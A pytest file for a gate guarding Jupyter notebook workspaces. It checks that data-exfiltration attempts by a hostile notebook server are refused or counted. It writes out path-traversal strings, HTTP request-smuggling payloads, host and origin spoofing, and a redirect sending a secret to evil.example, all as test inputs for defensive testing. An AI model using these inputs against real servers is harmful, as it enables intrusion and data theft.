"""Request shapes that try to get a file out of a workspace, against a notebook that answers anything.

The notebook's server can be replaced by the person in the sandbox, so it is the attacker's accomplice here:
it gives the secret to whatever reaches it. Each shape is either refused, or every byte of it is on the budget.
"""

import asyncio
import contextlib
import gzip
import json
import re
from dataclasses import dataclass

import aiohttp
import pytest
from aiohttp import WSMsgType, web

from spe.gate.messages import SUBPROTOCOL, write_message
from tests.gate.support import BASE, CHANNELS, COOKIE, HOST, ORIGIN, World, frame, parts_of, world

SECRET = b"PATIENT-7;1961-04-05;E11.9|" * 20
MESSAGE_LIMIT = 100_000
KEY = "dGhlIHNhbXBsZSBub25jZQ=="


@dataclass(frozen=True)
class Shape:
    """One attempt: raw bytes of a request, or the name of frames a notebook sends on a websocket."""

    name: str
    raw: bytes = b""
    frames: str = ""
    refused: bool = True


def http(name: str, path: str, *lines: str, method: str = "GET", body: bytes = b"", refused: bool = True) -> Shape:
    target = path if path.startswith(("/", "http", "*")) else BASE + path
    head = [f"{method} {target} HTTP/1.1", f"Host: {HOST}", f"Cookie: {COOKIE}", "Connection: close", *lines]
    if body:
        head += [f"Content-Length: {len(body)}", "Content-Type: application/json"]
    return Shape(name=name, raw="\r\n".join(head).encode() + b"\r\n\r\n" + body, refused=refused)


def raw(name: str, text: str) -> Shape:
    return Shape(name=name, raw=text.replace("\n", "\r\n").encode())


HEAD = f"Host: {HOST}\nCookie: {COOKIE}\n"
UPGRADE = f"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {KEY}"
GET_FILE = f"GET {BASE}files/secret.csv HTTP/1.1\n{HEAD}\n"

HTTP_SHAPES = [
    http("download of a file", "files/secret.csv"),
    http("download with the download query", "files/secret.csv?download=1"),
    http("download by the contents address", "api/contents/secret.csv?download=1"),
    http("preview in the viewer", "view/secret.html"),
    http("conversion to HTML", "nbconvert/html/secret.ipynb?download=true"),
    http("conversion of a posted notebook", "nbconvert/html", method="POST", body=b"{}"),
    http("list of converters", "api/nbconvert"),
    http("archive of a folder", "archive-download/secret?archiveToken=1&archiveFormat=zip"),
    http("directories endpoint", "directories/secret"),
    http("zip endpoint", "zip-download/secret"),
    http("tree of the classic interface", "tree/secret"),
    http("classic notebook page", "notebooks/secret.ipynb"),
    http("list of terminals", "api/terminals"),
    http("new terminal", "api/terminals", method="POST", body=b"{}"),
    http("terminal websocket", "terminals/websocket/1", UPGRADE, f"Origin: {ORIGIN}"),
    http("port proxy", "proxy/8080/secret"),
    http("absolute port proxy", "proxy/absolute/8080/secret"),
    http("language server websocket", "lsp/ws/pylsp", UPGRADE, f"Origin: {ORIGIN}"),
    http("server metrics", "metrics"),
    http("file named like an asset", "static/lab/secret.js"),
    http("custom style", "custom/custom.css"),
    http("classic extension", "nbextensions/secret.js"),
    http("extension planted at home", "lab/extensions/evil/static/secret.js"),
    http("theme planted at home", "lab/api/themes/evil/index.css"),
    http("asset with dot segments", "static/lab/../../files/secret.csv"),
    http("asset with encoded dot segments", "static/lab/%2e%2e/%2e%2e/files/secret.csv"),
    http("asset with double encoding", "static/lab/%252e%252e/files/secret.csv"),
    http("asset with an encoded slash", "static/lab%2f..%2f..%2ffiles/secret.csv"),
    http("asset with a backslash", "static/lab\\..\\..\\files\\secret.csv"),
    http("asset with an overlong dot", "static/lab/%c0%ae%c0%ae/files/secret.csv"),
    http("asset with a NUL", "static/lab/main.js%00secret"),
    http("address with an empty segment", "/" + BASE + "files/secret.csv"),
    http("address of another person", "/user/p-bob/ws-1/api/contents/secret.csv"),
    http("address of another workspace", "/user/p-ada/ws-2/api/contents/secret.csv"),
    http("address with an encoded letter", "%66iles/secret.csv"),
    http("address in other letters", "FILES/secret.csv"),
    http("address in absolute form", f"http://{HOST}{BASE}files/secret.csv"),
    http("allowed address in absolute form", f"http://{HOST}{BASE}api/contents/secret.csv"),
    http("asterisk form", "*", method="OPTIONS"),
    http("tunnel", f"{HOST}", method="CONNECT"),
    http("token in the address", "lab?token=abc"),
    http("encoded token in the address", "lab?%74oken=abc"),
    http("head of a file's contents", "api/contents/secret.csv", method="HEAD"),
    http("options of a file's contents", "api/contents/secret.csv", method="OPTIONS"),
    http("trace", "api/contents/secret.csv", method="TRACE"),
    http("WebDAV", "api/contents/secret.csv", method="PROPFIND"),
    http("method in small letters", "api/contents/secret.csv", method="get"),
    http("part of a file", "api/contents/secret.csv", "Range: bytes=0-99"),
    http("part of an asset", "static/lab/main.js", "Range: bytes=0-3"),
    http("part if unchanged", "api/contents/secret.csv", 'If-Range: "x"', "Range: bytes=0-1"),
    raw("other host", f"GET {BASE}api/contents/secret.csv HTTP/1.1\nHost: evil.example\n\n"),
    http("host twice", "api/contents/secret.csv", "Host: evil.example"),
    http("request from another site", "api/contents/secret.csv", "Origin: http://evil.example"),
    http("request marked cross-site", "api/contents/secret.csv", "Sec-Fetch-Site: cross-site"),
    http("change to HTTP/2", "api/contents/secret.csv", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA"),
    http("websocket on the contents", "api/contents/secret.csv", UPGRADE, f"Origin: {ORIGIN}"),
    http("websocket from another origin", CHANNELS, UPGRADE, "Origin: http://localhost:80000"),
    http("websocket without origin", CHANNELS, UPGRADE),
    http("websocket without the subprotocol", CHANNELS, UPGRADE, f"Origin: {ORIGIN}"),
    http("kernel channels without a websocket", CHANNELS),
    http("service worker", "static/lab/main.js", "Service-Worker: script"),
    raw(
        "form posted to the contents",
        f"POST {BASE}api/contents/x HTTP/1.1\n{HEAD}Content-Type: text/plain\nContent-Length: 2\n\n{{}}",
    ),
    http("contents larger than one answer", "api/contents/long.csv"),
    http("contents longer than they say, in chunks", "api/contents/endless.csv", refused=False),
    http("contents as gzip", "api/contents/gzip.csv"),
    http("redirect to another site", "api/contents/redirect.csv"),
    http("redirect that carries data", "api/contents/redirect-own.csv", refused=False),
    http("status that is not one", "api/contents/status.csv"),
    http("partial content without asking", "api/contents/partial.csv"),
    http("reason phrase", "api/contents/reason.csv", refused=False),
    http("header of its own", "api/contents/header.csv", refused=False),
    http("entity tag", "api/contents/etag.csv", refused=False),
    http("cookie of its own", "api/contents/cookie.csv", refused=False),
    http("cookie with a known name", "api/contents/known-cookie.csv", refused=False),
    http("early hints", "api/contents/hints.csv", refused=False),
    http("trailers", "api/contents/trailer.csv", refused=False),
    http("body after no content", "api/contents/no-content.csv", refused=False),
    http("contents of a file", "api/contents/secret.csv?content=1&format=base64", refused=False),
    http("page written by the notebook", "lab", refused=False),
    http("settings as a store", "lab/api/settings/secret:plugin", refused=False),
    http("workspace as a store", "lab/api/workspaces/secret", refused=False),
    http("logo of a kernel", "kernelspecs/secret/logo-svg.svg", refused=False),
    http("translations", "lab/api/translations/secret", refused=False),
    http("login answer", "oauth_callback?code=x&state=y", refused=False),
    http("version", "api", refused=False),
    http("list of sessions", "api/sessions", refused=False),
]
SMUGGLING_SHAPES = [
    raw(
        "length and chunks",
        f"POST {BASE}api/sessions HTTP/1.1\n{HEAD}Content-Length: 4\nTransfer-Encoding: chunked\n\n0\n\n{GET_FILE}",
    ),
    raw("chunks", f"POST {BASE}api/sessions HTTP/1.1\n{HEAD}Transfer-Encoding: chunked\n\n0\n\n{GET_FILE}"),
    raw("chunks named oddly", f"POST {BASE}api/sessions HTTP/1.1\n{HEAD}Transfer-Encoding: xchunked\n\n{GET_FILE}"),
    raw(
        "chunks after a space",
        f"POST {BASE}api/sessions HTTP/1.1\n{HEAD}Transfer-Encoding : chunked\n\n0\n\n{GET_FILE}",
    ),
    raw(
        "chunks twice",
        f"POST {BASE}api/sessions HTTP/1.1\n{HEAD}Transfer-Encoding: chunked, identity\n\n0\n\n{GET_FILE}",
    ),
    raw("two lengths", f"POST {BASE}api/sessions HTTP/1.1\n{HEAD}Content-Length: 0\nContent-Length: 99\n\n{GET_FILE}"),
    raw("length with a sign", f"POST {BASE}api/sessions HTTP/1.1\n{HEAD}Content-Length: +0\n\n{GET_FILE}"),
    raw("length of a list", f"POST {BASE}api/sessions HTTP/1.1\n{HEAD}Content-Length: 0, 0\n\n{GET_FILE}"),
    raw(
        "body on a reading request",
        f"GET {BASE}api/sessions HTTP/1.1\n{HEAD}Content-Length: {len(GET_FILE)}\n\n{GET_FILE}",
    ),
    raw("folded header", f"GET {BASE}api/sessions HTTP/1.1\n{HEAD}X: a\n b\nRange: bytes=0-1\n\n{GET_FILE}"),
    raw("header without a name", f"GET {BASE}api/sessions HTTP/1.1\n{HEAD}: x\n\n{GET_FILE}"),
    raw("space before the colon", f"GET {BASE}files/secret.csv HTTP/1.1\nHost : {HOST}\n\n"),
    raw("two spaces in the first line", f"GET  {BASE}files/secret.csv  HTTP/1.1\n{HEAD}\n"),
    raw("second request behind the first", f"GET {BASE}files/a HTTP/1.1\n{HEAD}\n{GET_FILE}"),
    raw("old protocol", f"GET {BASE}files/secret.csv HTTP/1.0\n\n"),
    raw("oldest protocol", f"GET {BASE}files/secret.csv\n\n"),
    raw("HTTP/2 opening", "PRI * HTTP/2.0\n\nSM\n\n"),
    raw("huge header", f"GET {BASE}api/sessions HTTP/1.1\n{HEAD}X: {'a' * 70000}\n\n"),
    raw("many headers", f"GET {BASE}api/sessions HTTP/1.1\n{HEAD}{'X: a' + chr(10)}" + "Y: b\n" * 400 + "\n"),
    raw("expectation", f"POST {BASE}api/sessions HTTP/1.1\n{HEAD}Expect: 100-continue\nContent-Length: 2\n\n{{}}"),
]


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


def _with(kind: str, channel: str, content: object = None, *, buffers: tuple[bytes, ...] = (), **header: str) -> bytes:
    head = {"msg_id": "m", "msg_type": kind, "session": "s", "username": "u", "date": "", "version": "5", **header}
    return write_message(channel, [_json(head), b"{}", b"{}", _json(content or {"data": SECRET.decode()}), *buffers])


FRAMES: dict[str, list[bytes | str]] = {
    "printed text": [_with("stream", "iopub")],
    "displayed picture": [_with("display_data", "iopub")],
    "changed display": [_with("update_display_data", "iopub")],
    "result of a cell": [_with("execute_result", "iopub")],
    "traceback": [_with("error", "iopub")],
    "echo of code": [_with("execute_input", "iopub")],
    "user expressions in a reply": [_with("execute_reply", "shell", {"user_expressions": {"x": SECRET.decode()}})],
    "help text": [_with("inspect_reply", "shell")],
    "completions": [_with("complete_reply", "shell")],
    "history": [_with("history_reply", "shell")],
    "kernel banner": [_with("kernel_info_reply", "shell")],
    "input prompt": [_with("input_request", "stdin")],
    "buffers": [_with("display_data", "iopub", {"a": 1}, buffers=(SECRET,))],
    "header fields": [_with("status", "iopub", {"a": 1}, extra=SECRET.decode())],
    "one message too large": [_with("display_data", "iopub", {"text": "x" * MESSAGE_LIMIT + SECRET.decode()})],
    "widget opening": [_with("comm_open", "iopub")],
    "widget message": [_with("comm_msg", "iopub")],
    "widget message on shell": [_with("comm_msg", "shell")],
    "debugger reply": [_with("debug_reply", "control")],
    "debugger event": [_with("debug_event", "iopub")],
    "invented type": [_with("exfiltrate", "iopub")],
    "known type on another channel": [_with("stream", "control")],
    "invented channel": [_with("stream", "covert")],
    "bytes behind the message": [frame("stream") + SECRET],
    "bytes before the parts": [b"\x06" + frame("stream")[1:56] + SECRET],
    "bytes that are no message": [SECRET],
    "text frame": [SECRET.decode()],
    "message in the old JSON form": [json.dumps({"header": {"msg_type": "stream"}, "content": SECRET.decode()})],
    "header too long": [_with("stream", "iopub", {"a": 1}, extra=SECRET.decode() * 20)],
    "close reason": [],
}
SOCKET_REFUSED = {
    "one message too large",
    "widget opening",
    "widget message",
    "widget message on shell",
    "debugger reply",
    "debugger event",
    "invented type",
    "known type on another channel",
    "invented channel",
    "bytes behind the message",
    "bytes before the parts",
    "bytes that are no message",
    "text frame",
    "message in the old JSON form",
    "header too long",
    "close reason",
}
SOCKET_SHAPES = [Shape(name=name, frames=name, refused=name in SOCKET_REFUSED) for name in FRAMES]
SHAPES = [*HTTP_SHAPES, *SMUGGLING_SHAPES, *SOCKET_SHAPES]


async def accomplice(request: web.Request) -> web.StreamResponse:
    """A notebook server under the attacker's control."""
    if request.headers.get("Upgrade"):
        return await _accomplice_socket(request)
    special = _SPECIAL.get(request.path.rpartition("/")[2])
    if special is not None:
        return await special(request)
    return web.Response(body=SECRET, content_type="application/octet-stream", headers={"X-Leak": SECRET.decode()})


async def _accomplice_socket(request: web.Request) -> web.StreamResponse:
    ws = web.WebSocketResponse(protocols=[SUBPROTOCOL], max_msg_size=0)
    await ws.prepare(request)
    for data in FRAMES[request.query.get("session_id", "printed text")]:
        await (ws.send_str(data) if isinstance(data, str) else ws.send_bytes(data))
    await ws.close(code=1000, message=SECRET[:100])
    return ws


async def _long(request: web.Request) -> web.StreamResponse:
    return web.Response(body=SECRET * (MESSAGE_LIMIT // len(SECRET) + 2))


async def _endless(request: web.Request) -> web.StreamResponse:
    response = web.StreamResponse()
    response.enable_chunked_encoding()
    await response.prepare(request)
    for _ in range(3 * MESSAGE_LIMIT // len(SECRET)):
        await response.write(SECRET)
    return response


async def _gzip(request: web.Request) -> web.StreamResponse:
    return web.Response(body=gzip.compress(SECRET, 0), headers={"Content-Encoding": "gzip"})


async def _redirect(request: web.Request) -> web.StreamResponse:
    return web.Response(status=302, headers={"Location": "https://evil.example/?" + SECRET.hex()})


async def _redirect_own(request: web.Request) -> web.StreamResponse:
    return web.Response(status=307, headers={"Location": BASE + "lab?" + SECRET.decode().replace(";", "-")})


async def _status(request: web.Request) -> web.StreamResponse:
    return web.Response(status=277, body=SECRET)


async def _partial(request: web.Request) -> web.StreamResponse:
    return web.Response(status=206, body=SECRET, headers={"Content-Range": "bytes 0-1/2"})


async def _reason(request: web.Request) -> web.StreamResponse:
    return web.Response(status=200, reason=SECRET.decode())


async def _header(request: web.Request) -> web.StreamResponse:
    names = ["X-Leak", "Server", "Link", "Content-Security-Policy", "Refresh", "Content-Disposition", "Warning", "Via"]
    return web.Response(headers=dict.fromkeys([*names, "X-JupyterHub-Version"], SECRET.decode()))


async def _etag(request: web.Request) -> web.StreamResponse:
    return web.Response(headers={"ETag": f'"{SECRET.decode()}"', "Last-Modified": SECRET.decode()})


async def _cookie(request: web.Request) -> web.StreamResponse:
    return web.Response(headers={"Set-Cookie": f"leak={SECRET.decode().replace(';', '-')}"})


async def _known_cookie(request: web.Request) -> web.StreamResponse:
    return web.Response(headers={"Set-Cookie": f"_xsrf={SECRET.decode().replace(';', '-')}; Domain=evil; Path=/"})


async def _hints(request: web.Request) -> web.StreamResponse:
    assert request.transport is not None
    request.transport.write(b"HTTP/1.1 103 Early Hints\r\nLink: " + SECRET + b"\r\n\r\n")
    return web.Response(text="{}")


async def _trailer(request: web.Request) -> web.StreamResponse:
    return await _written(
        request,
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Leak\r\n\r\n2\r\n{}\r\n0\r\nX-Leak: "
        + SECRET
        + b"\r\n\r\n",
    )


async def _no_content(request: web.Request) -> web.StreamResponse:
    return await _written(request, b"HTTP/1.1 204 No Content\r\n\r\n" + SECRET)


async def _written(request: web.Request, data: bytes) -> web.StreamResponse:
    """Bytes as they are, then the end of the connection."""
    assert request.transport is not None
    request.transport.write(data)
    request.transport.close()
    return web.Response()


_SPECIAL = {
    "long.csv": _long,
    "endless.csv": _endless,
    "gzip.csv": _gzip,
    "redirect.csv": _redirect,
    "redirect-own.csv": _redirect_own,
    "status.csv": _status,
    "partial.csv": _partial,
    "reason.csv": _reason,
    "header.csv": _header,
    "etag.csv": _etag,
    "cookie.csv": _cookie,
    "known-cookie.csv": _known_cookie,
    "hints.csv": _hints,
    "trailer.csv": _trailer,
    "no-content.csv": _no_content,
}


async def received(around: World, shape: Shape) -> bytes:
    """Everything a browser, or a script in its place, gets to see."""
    if shape.frames:
        return await _received_frames(around, shape.frames)
    reader, writer = await asyncio.open_unix_connection(str(around.inbound))
    got = bytearray()
    try:
        writer.write(shape.raw)
        while True:  # until the connection ends, or a connection that is kept falls silent
            async with asyncio.timeout(0.5):
                chunk = await reader.read(65536)
            if not chunk:
                return bytes(got)
            got += chunk
    except (ConnectionError, TimeoutError):
        return bytes(got)
    finally:
        writer.close()


async def _received_frames(around: World, name: str) -> bytes:
    got = bytearray()
    async with around.socket(f"{CHANNELS}?session_id={name.replace(' ', '%20')}") as ws:
        async with asyncio.timeout(10):
            while True:
                message = await ws.receive()
                if message.type in {WSMsgType.BINARY, WSMsgType.TEXT}:
                    data = message.data if isinstance(message.data, bytes) else message.data.encode()
                    if message.type is WSMsgType.BINARY and b'"username": "spe"' in parts_of(data)[1]:
                        continue  # the gate's own words
                    got += data
                else:
                    got += (message.extra or "").encode() if isinstance(message.extra, str) else b""
                    return bytes(got)


@dataclass(frozen=True)
class Row:
    """What became of a shape."""

    shape: Shape
    seen: bytes
    counted: int
    reached: bool

    @property
    def leaked(self) -> int:
        """Bytes of the secret that came through, in any place."""
        found = self.seen.count(b"PATIENT-7") * len(b"PATIENT-7;1961-04-05;E11.9|")
        return found + self.seen.count(SECRET.hex().encode())

    @property
    def outcome(self) -> str:
        if self.leaked == 0:
            return "refused" if self.shape.refused else "nothing of it passed"
        return "counted" if self.counted >= self.leaked else "FREE"

    def __str__(self) -> str:
        first = self.seen.partition(b"\r\n")[0][:12].decode("latin-1") if not self.shape.frames else "websocket"
        sums = f"leaked {self.leaked:>7}  on the budget {self.counted:>7}"
        return f"{self.shape.name:<42} {first:<14} {self.outcome:<22} {sums}"


ALLOWED_PATHS = ("api", "lab", "kernelspecs", "oauth_callback")


async def _play() -> tuple[list[Row], list[str]]:
    rows = []
    async with world(accomplice, message_bytes=MESSAGE_LIMIT, daily_bytes=50_000_000) as around:
        for shape in SHAPES:
            before, asked = await around.used(), len(around.asked)
            seen = await received(around, shape)
            rows.append(
                Row(shape=shape, seen=seen, counted=await around.used() - before, reached=len(around.asked) > asked)
            )
        return rows, [request.path for request in around.asked]


@pytest.fixture(scope="module")
def played() -> tuple[list[Row], list[str]]:
    return asyncio.run(_play())


def test_every_way_out_is_refused_or_on_the_budget(played: tuple[list[Row], list[str]]) -> None:
    rows, _ = played
    print()
    print("\n".join(map(str, rows)))
    assert len(rows) >= 40
    assert [str(row) for row in rows if row.outcome == "FREE"] == []


def test_what_must_be_refused_lets_nothing_through(played: tuple[list[Row], list[str]]) -> None:
    rows, _ = played
    assert [str(row) for row in rows if row.shape.refused and row.leaked] == []


def test_what_is_open_is_really_open(played: tuple[list[Row], list[str]]) -> None:
    rows, _ = played
    must_flow = {"contents of a file", "page written by the notebook", "printed text", "displayed picture", "buffers"}
    assert [row.shape.name for row in rows if row.shape.name in must_flow and not row.leaked] == []


def test_the_notebook_is_asked_only_for_listed_addresses(played: tuple[list[Row], list[str]]) -> None:
    _, asked = played
    assert [path for path in asked if not path.startswith(tuple(BASE + part for part in ALLOWED_PATHS))] == []
    assert [path for path in asked if "files" in path or "terminals" in path] == []


def test_one_answer_never_passes_its_cap(played: tuple[list[Row], list[str]]) -> None:
    rows, _ = played
    assert max(row.leaked for row in rows) <= MESSAGE_LIMIT


def test_every_answer_carries_the_gates_policy_and_type(played: tuple[list[Row], list[str]]) -> None:
    rows, _ = played
    heads = [row.seen.partition(b"\r\n\r\n")[0].lower() for row in rows if row.seen.startswith(b"HTTP/1.1 ")]
    assert len(heads) > 80
    for head in heads:
        assert b"content-security-policy: default-src 'none'" in head
        assert b"x-content-type-options: nosniff" in head
        assert b"octet-stream" not in head


def test_a_refusal_tells_a_browser_what_to_do() -> None:
    async def story() -> tuple[int, bytes, bytes]:
        async with world() as around:
            status, _, page = await around.get("files/secret.csv", headers={"Accept": "text/html,*/*"})
            _, _, data = await around.get("files/secret.csv")
            return status, page, data

    status, page, data = asyncio.run(story())
    assert status == 403
    assert b"spe egress submit" in page
    assert page.startswith(b"<!doctype html>")
    assert json.loads(data)["code"] == "way-out"


@pytest.mark.parametrize("path", ["nbconvert/html", "api/sessions"])
def test_after_a_request_with_a_body_the_other_side_may_close_first(path: str) -> None:
    """The Hub's proxy makes one more, empty write behind a body; when that fails it takes the notebook for dead."""

    async def story() -> tuple[bytes, bytes | None, bytes]:
        async with world() as around:
            reader, writer = await asyncio.open_unix_connection(str(around.inbound))
            head = [f"POST {BASE}{path} HTTP/1.1", f"Host: {HOST}", "Content-Type: application/json"]
            writer.write("\r\n".join([*head, "Content-Length: 2", "Connection: close"]).encode() + b"\r\n\r\n{}")
            answer = await reader.readuntil(b"\r\n\r\n")
            await reader.readexactly(int(re.findall(rb"Content-Length: (\d+)", answer)[0]))
            early = None
            with contextlib.suppress(TimeoutError):
                early = await asyncio.wait_for(reader.read(), 0.2)
            late = await reader.read()
            writer.close()
            await writer.wait_closed()
            return answer, early, late

    answer, early, late = asyncio.run(story())
    assert answer.startswith(b"HTTP/1.1 ")
    assert early is None, "the gate closed at once"
    assert late == b""


def test_a_link_planted_for_the_notebooks_socket_leads_nowhere() -> None:
    async def story() -> tuple[int, list[tuple[str, str, dict[str, str], bytes]]]:
        async with world() as around:
            socket = around.root / "n" / "p-ada" / "nb.sock"
            socket.unlink()
            socket.symlink_to(around.portal.path)
            status, _, _ = await around.get("api/contents/secret.csv")
            return status, around.portal.calls

    status, calls = asyncio.run(story())
    assert status == 502
    assert calls == []


def test_an_inbound_widget_or_debugger_message_never_reaches_the_kernel() -> None:
    got: list[str] = []

    async def kernel(request: web.Request) -> web.StreamResponse:
        ws = web.WebSocketResponse(protocols=[SUBPROTOCOL])
        await ws.prepare(request)
        async for message in ws:
            got.append(json.loads(parts_of(message.data)[1])["msg_type"])
            await ws.send_bytes(frame("status"))
        return ws

    async def story() -> None:
        async with world(kernel) as around, around.socket() as ws:
            for kind, channel in (("debug_request", "control"), ("comm_msg", "shell"), ("execute_request", "shell")):
                await ws.send_bytes(frame(kind, channel=channel))
            await ws.receive(timeout=10)

    asyncio.run(story())
    assert got == ["execute_request"]


def test_events_are_text_only_and_counted_and_take_no_input() -> None:
    got: list[object] = []

    async def events(request: web.Request) -> web.StreamResponse:
        ws = web.WebSocketResponse()
        await ws.prepare(request)
        await ws.send_str("x" * 1000)
        got.extend([message.data async for message in ws])
        return ws

    async def story() -> int:
        async with world(events) as around, around.socket("api/events/subscribe", protocols=()) as ws:
            await ws.send_str("in")
            assert len((await ws.receive(timeout=10)).data) == 1000
            return next(int(s["bytes"]) for s in (await around.session())["spent"] if s["channel"] == "events")

    assert asyncio.run(story()) >= 1000
    assert got == []


def test_a_terminal_opens_only_with_the_permit_and_is_counted() -> None:
    async def terminal(request: web.Request) -> web.StreamResponse:
        ws = web.WebSocketResponse()
        await ws.prepare(request)
        async for message in ws:
            await ws.send_str(message.data * 10)
        return ws

    async def story() -> int:
        async with world(terminal, terminals=True) as around:
            async with around.socket("terminals/websocket/1", protocols=()) as ws:
                await ws.send_str('["stdin", "ls"]')
                await ws.receive(timeout=10)
            return await around.used()

    assert asyncio.run(story()) >= 150


def test_a_notebook_that_picks_another_subprotocol_is_not_connected() -> None:
    async def legacy(request: web.Request) -> web.StreamResponse:
        ws = web.WebSocketResponse()
        await ws.prepare(request)
        return ws

    async def story() -> int:
        async with world(legacy) as around:
            with pytest.raises(aiohttp.WSServerHandshakeError) as caught:
                async with around.socket():
                    pass
            return caught.value.status

    assert asyncio.run(story()) == 502


def test_a_log_line_is_short_and_carries_no_query() -> None:
    async def story() -> str:
        async with world() as around:
            await around.get("files/" + "a" * 3000 + "?token=very-secret")
            return around.log()

    log = asyncio.run(story())
    assert "very-secret" not in log
    assert "t" * 32 not in log
    assert max(map(len, log.splitlines())) < 1000


def test_a_flood_of_refusals_is_a_trickle_in_the_log() -> None:
    async def story() -> int:
        async with world() as around:
            for _ in range(300):
                await around.get("files/x")
            return len(around.log().splitlines())

    assert asyncio.run(story()) < 300
